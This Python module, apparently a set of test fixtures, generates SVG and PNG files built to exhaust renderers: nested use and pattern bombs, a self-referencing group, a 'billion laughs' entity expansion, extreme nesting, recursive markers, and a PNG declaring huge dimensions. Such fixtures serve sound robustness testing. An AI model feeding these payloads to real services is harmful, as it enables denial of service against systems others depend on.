"""Logos made to exhaust whoever draws them."""

from __future__ import annotations

import struct
import zlib

_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_SVG = f'<svg {_NAMES} width="22" height="22">'


def nested_uses(each: int = 10, depth: int = 20) -> bytes:
    """A shape repeated ten times, and that ten times, and so on."""
    groups = "".join(
        f'<g id="a{level}">{f"""<use xlink:href="#a{level - 1}"/>""" * each}</g>' for level in range(1, depth)
    )
    first = '<g id="a0"><rect width="1" height="1"/></g>'
    return f'{_SVG}<defs>{first}{groups}</defs><use xlink:href="#a{depth - 1}"/></svg>'.encode()


def nested_patterns(each: int = 10, depth: int = 20) -> bytes:
    """The same by what fills a shape."""
    patterns = "".join(
        f'<pattern id="p{level}" width="1" height="1">'
        f"""{f'<rect width="1" height="1" style="fill: url(#p{level - 1})"/>' * each}</pattern>"""
        for level in range(1, depth)
    )
    return f'{_SVG}{patterns}<rect width="9" height="9" fill="url(#p{depth - 1})"/></svg>'.encode()


def holds_itself() -> bytes:
    """A group that uses itself."""
    return f'{_SVG}<g id="a"><use href="#a"/></g></svg>'.encode()


def entities() -> bytes:
    """A word that stands for ten words, each of which stands for ten."""
    told = "".join(f'<!ENTITY b{at} "{f"&b{at - 1};" * 10}">' for at in range(1, 9))
    return f'<!DOCTYPE svg [<!ENTITY b0 "bomb">{told}]>{_SVG}<text>&b8;</text></svg>'.encode()


def deep() -> bytes:
    """Groups in groups in groups."""
    return f"{_SVG}{'<g>' * 20_000}{'</g>' * 20_000}</svg>".encode()


def markers(points: int = 3_000) -> bytes:
    """A line with a mark at each of its points, each a line with marks: few shapes, and endless to draw."""
    path = f'<path d="M0 0{"L1 1" * points}"'
    inner = f'<marker id="n" markerWidth="1" markerHeight="1">{path}/></marker>'
    outer = f'<marker id="m" markerWidth="1" markerHeight="1">{path} marker-mid="url(#n)"/></marker>'
    return f'{_SVG}<defs>{outer}{inner}</defs>{path} marker-mid="url(#m)"/></svg>'.encode()


def png(width: int, height: int) -> bytes:
    """A picture that says that it is so large."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 100)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", body) + part(b"IEND", b"")
